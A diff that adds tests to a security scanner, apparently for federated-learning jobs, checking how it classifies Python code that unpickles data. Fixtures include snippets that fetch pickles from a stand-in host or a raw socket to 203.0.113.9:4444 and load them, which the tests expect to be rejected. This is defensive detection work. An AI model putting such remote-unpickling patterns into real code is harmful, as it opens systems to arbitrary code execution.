@@ -37,3 +37,32 @@ def test_other_urls_in_a_settings_file_are_still_locations(tmp_path, word):
 def test_nvflares_own_logging_config_in_a_job_is_accepted():
     report = kit.scan_sample("jobs/rf48_nvflare_log_config")
     assert report.decision is Decision.ACCEPT, kit.findings(report)
+
+
+# ---- a pickle read from a file at a path known only at run time: a capability, as `joblib.load(path)` -------------
+
+@pytest.mark.parametrize("source", [
+    'import glob, pickle\nfor path in glob.glob("results/**/*.pkl", recursive=True):\n'
+    '    with open(path, "rb") as handle:\n        data = pickle.load(handle)\n',
+    'import pickle, sys\ndef load(path):\n    with open(path, "rb") as f:\n        return pickle.load(f)\n\n\nload(sys.argv[1])\n',
+])
+def test_a_pickle_opened_at_a_run_time_path_escalates_as_a_local_pickle(source):
+    # fedprox's, fedbn's, statavg's plotting notebooks: rejected (untrusted-pickle, critical) where `joblib.load(path)`
+    # of the same path escalated
+    report = kit.scan_text(source)
+    assert kit.holds(report, "deserialization.local-pickle"), kit.findings(report)
+    assert not kit.holds(report, "deserialization.untrusted-pickle"), kit.findings(report)
+    assert report.decision is Decision.ESCALATE, kit.findings(report)
+
+
+@pytest.mark.parametrize("source", [
+    'import pickle, requests\nblob = requests.get("https://x.example/w.pkl").content\npickle.loads(blob)\n',
+    'import io, pickle, socket\ns = socket.create_connection(("203.0.113.9", 4444))\npickle.load(s.makefile("rb"))\n',
+    'import base64, io, pickle\nB = "gASVAAAAAAAAAAB9lC4="\npickle.load(io.BytesIO(base64.b64decode(B)))\n',
+    'import pickle\nimport nvflare.client as flare\nm = flare.receive()\npickle.loads(m.meta["blob"])\n',
+    'import pickle, zlib\nP = b"x\\x9c"\npickle.loads(zlib.decompress(P))\n',
+    'import pickle, urllib.request\nwith urllib.request.urlopen("https://x.example/w.pkl") as r:\n    pickle.load(r)\n',
+])
+def test_a_pickle_from_elsewhere_still_rejects(source):
+    report = kit.scan_text(source)
+    assert report.decision is Decision.REJECT, kit.findings(report)
